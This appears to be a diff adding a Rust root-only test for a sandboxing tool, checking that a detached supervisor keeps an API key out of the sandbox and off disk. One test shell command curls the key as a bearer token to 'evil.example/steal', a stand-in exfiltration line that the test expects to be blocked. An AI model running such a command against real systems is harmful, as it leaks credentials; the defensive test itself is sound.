@@ -538,3 +538,48 @@ async fn files_round_trip(sb: &Sandbox) {
     let err = fs.read("relative").await.unwrap_err();
     assert!(err.to_string().contains("absolute path"), "{err}");
 }
+
+#[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
+fn a_detached_supervisor_holds_the_boundary_and_the_value_which_never_touches_disk() {
+    require_root();
+    const VALUE: &str = "sk-detached-51c0ffee";
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let home = Home::new();
+    let ca = net.ca_file().display().to_string();
+    let o = Command::new("ip")
+        .args(["netns", "exec", &net.client, standin_bin(), "run", "-d", "--name", "keyed"])
+        .args(["--upstream-ca", &ca, "--secret", "OPENAI_API_KEY@api.openai.com"])
+        .args(["--on-secret-violation", "block-and-log"])
+        .env("STANDIN_HOME", home.0.path())
+        .env("OPENAI_API_KEY", VALUE)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", both(&o));
+    // The CLI that read the value has exited: only the supervisor holds it now.
+    let o = home.run(&[
+        "exec", "keyed", "--", "sh", "-c",
+        r#"echo "env=$OPENAI_API_KEY"; curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models; curl --http1.1 -s -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://evil.example/steal"#,
+    ]);
+    assert_eq!(
+        stdout(&o),
+        "env=$MSB_OPENAI_API_KEY\n200\n000\n",
+        "{}",
+        report(&o, &net)
+    );
+    let got = net.received_at(UPSTREAM_V4);
+    assert!(got.contains(&format!("Authorization: Bearer {VALUE}\r\n")), "{got}");
+    assert!(!net.received().contains("/steal"), "{}", net.received());
+    let inspect = home.ok(&["inspect", "keyed"]);
+    assert!(inspect.contains("$MSB_OPENAI_API_KEY"), "{inspect}");
+    home.ok(&["stop", "keyed"]);
+    // Nothing under the state directory holds the value, in any encoding a file could.
+    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, VALUE);
+    let o = Command::new("grep")
+        .args(["-rlaF", "-e", VALUE, "-e", &b64])
+        .arg(home.0.path())
+        .output()
+        .unwrap();
+    assert_eq!(stdout(&o), "", "the value was written to disk");
+    assert_eq!(o.status.code(), Some(1), "{}", both(&o));
+}
